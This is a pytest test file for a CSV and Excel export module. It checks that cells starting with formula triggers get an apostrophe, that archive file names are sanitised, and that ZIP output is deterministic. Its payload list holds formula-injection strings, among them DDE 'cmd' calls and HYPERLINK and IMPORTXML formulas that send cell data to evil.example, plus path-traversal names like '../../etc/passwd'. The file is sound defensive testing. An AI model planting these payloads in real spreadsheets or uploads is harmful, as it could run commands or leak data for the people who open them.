"""No cell of an export can become a formula, in CSV or in a workbook, however it begins."""

import csv
import datetime as dt
import io
import zipfile
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from evaluation.domain.exporting.defusing import TRIGGERS, UNSEEN, defused
from evaluation.domain.exporting.files import csv_bytes, csv_files, safe_name, xlsx_bytes, zip_bytes
from evaluation.domain.exporting.tables import Table

PLAIN = ["=", "+", "-", "@", "\t", "\r", "\n"]
FULL_WIDTH = ["＝", "＋", "－", "＠"]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|'/c calc'!A0",
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!D2",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")',
    '"=1+1',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "|calc",
    "%0A=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
]


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content))


def harmless(text: str) -> bool:
    """Whether a spreadsheet that opens this cell takes it for text, whatever blanks it drops first."""
    bare = text.lstrip("".join(UNSEEN))
    return not text or (text[0] not in TRIGGERS and (not bare or bare[0] not in TRIGGERS))


@pytest.mark.parametrize("trigger", PLAIN + FULL_WIDTH)
def test_whatever_begins_with_a_trigger_gets_an_apostrophe_in_both_files(trigger):
    table = Table("cells", [f"{trigger}head"], [[f"{trigger}1+1"], [trigger]])
    head, *cells = [row[0] for row in read_csv(csv_bytes(table))]
    assert [head, *cells] == [f"'{trigger}head", f"'{trigger}1+1", f"'{trigger}"]
    sheet = read_xlsx(xlsx_bytes([table])).active
    for row, told in ((1, f"'{trigger}head"), (2, f"'{trigger}1+1"), (3, f"'{trigger}")):
        cell = sheet.cell(row, 1)
        assert cell.data_type == "s"
        # Workbooks keep a carriage return as the escape that Excel itself writes for it.
        assert cell.value.replace("_x000D_", "\r") == told


@pytest.mark.parametrize("payload", PAYLOADS)
def test_known_attacks_are_text_in_both_files(payload):
    table = Table("cells", ["text"], [[payload]])
    assert harmless(read_csv(csv_bytes(table))[1][0])
    cell = read_xlsx(xlsx_bytes([table])).active.cell(2, 1)
    assert cell.data_type == "s"
    assert cell.hyperlink is None
    assert harmless(cell.value)


@given(st.text(alphabet=st.sampled_from([*TRIGGERS, *UNSEEN, "a", "1", '"', ",", ";", "(", "é", "漢"]), max_size=12))
def test_no_text_at_all_can_begin_a_formula(text):
    assert harmless(defused(text))
    assert defused(text) == (text if harmless(text) else f"'{text}"), (
        "an apostrophe where one is needed, and nowhere else"
    )


@given(st.text(max_size=60))
def test_what_is_no_attack_arrives_in_csv_as_it_was_written(text):
    cell = read_csv(csv_bytes(Table("cells", ["text"], [[text]])))[1][0]
    assert cell in (text, f"'{text}")
    assert (cell == text) == (defused(text) == text)


def test_numbers_dates_and_truth_stay_what_they_are():
    moment = dt.datetime(2026, 12, 4, 20, 30, tzinfo=dt.UTC)
    table = Table("cells", ["n", "f", "d", "m", "t", "none"], [[-5, 1.5, dt.date(2026, 12, 4), moment, True, None]])
    sheet = read_xlsx(xlsx_bytes([table])).active
    assert [cell.value for cell in sheet[2]] == [
        -5,
        1.5,
        dt.datetime(2026, 12, 4),  # noqa: DTZ001 - a workbook knows no zones
        dt.datetime(2026, 12, 4, 20, 30),  # noqa: DTZ001
        True,
        None,
    ]
    assert read_csv(csv_bytes(table))[1] == ["-5", "1.5", "2026-12-04", "2026-12-04 20:30", "True", ""]


def test_an_instant_is_told_in_utc_and_a_day_before_excels_first_as_text():
    in_apia = dt.datetime(2026, 12, 5, 9, 30, tzinfo=ZoneInfo("Pacific/Apia"))
    table = Table("cells", ["m", "d"], [[in_apia, dt.date(1, 1, 1)]])
    assert read_csv(csv_bytes(table))[1] == ["2026-12-04 20:30", "0001-01-01"]
    assert read_xlsx(xlsx_bytes([table])).active.cell(2, 2).value == "0001-01-01"


def test_a_text_longer_than_a_cell_is_cut_and_the_rest_stands():
    table = Table("cells", ["a", "b"], [["x" * 40_000, "after"]])
    sheet = read_xlsx(xlsx_bytes([table])).active
    assert len(sheet.cell(2, 1).value) == 32_767
    assert sheet.cell(2, 2).value == "after"


def test_csv_is_read_by_excel_in_any_script_and_keeps_line_breaks():
    table = Table("people", ["name"], [["ʻAna\nMoala"], ["อัญชลี"], ["=ʻAna"]])
    content = csv_bytes(table)
    assert content.startswith(b"\xef\xbb\xbf")
    assert [row[0] for row in read_csv(content)] == ["name", "ʻAna\nMoala", "อัญชลี", "'=ʻAna"]
    assert b'"name"\r\n' in content


def test_sheets_get_names_that_excel_takes_and_no_two_the_same():
    long = "a-worksheet-with-a-name-that-is-longer-than-sheets-may-have"
    book = read_xlsx(xlsx_bytes([Table(long, ["x"]), Table(long, ["x"]), Table("a/b:c", ["x"])]))
    assert len(book.sheetnames) == 3
    assert all(len(name) <= 31 for name in book.sheetnames)
    assert "a b c" in book.sheetnames


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("ʻAna · Helen", "ʻAna · Helen"),
        ("../../etc/passwd", "etc-passwd"),
        ("..", "file"),
        ("a\\b/c:d", "a-b-c-d"),
        ("CON\x00\n.pdf", "CON-.pdf"),
        ("", "file"),
        ("x\u202egpj.pdf", "x-gpj.pdf"),
    ],
)
def test_file_names_stay_inside_the_archive(name, safe):
    assert safe_name(name) == safe


def test_a_long_name_keeps_its_ending():
    assert safe_name("x" * 300 + ".pdf") == "x" * 116 + ".pdf"


def test_the_same_files_make_the_same_archive_and_a_name_that_comes_twice_gets_a_number():
    files = [
        (["pair", "log.pdf"], b"1"),
        (["pair", "LOG.pdf"], b"2"),
        (["pair", "log.pdf"], b"3"),
        (["x"], b"4"),
        (["x"], b"5"),
    ]
    made = zip_bytes(files)
    assert made == zip_bytes(files)
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        assert archive.namelist() == ["pair/log.pdf", "pair/LOG (2).pdf", "pair/log (3).pdf", "x", "x (2)"]
        assert archive.read("pair/log (3).pdf") == b"3"


def test_tables_become_files_of_their_names():
    assert [path for path, _content in csv_files([Table("people", ["x"]), Table("sessions", ["x"])])] == [
        ["people.csv"],
        ["sessions.csv"],
    ]
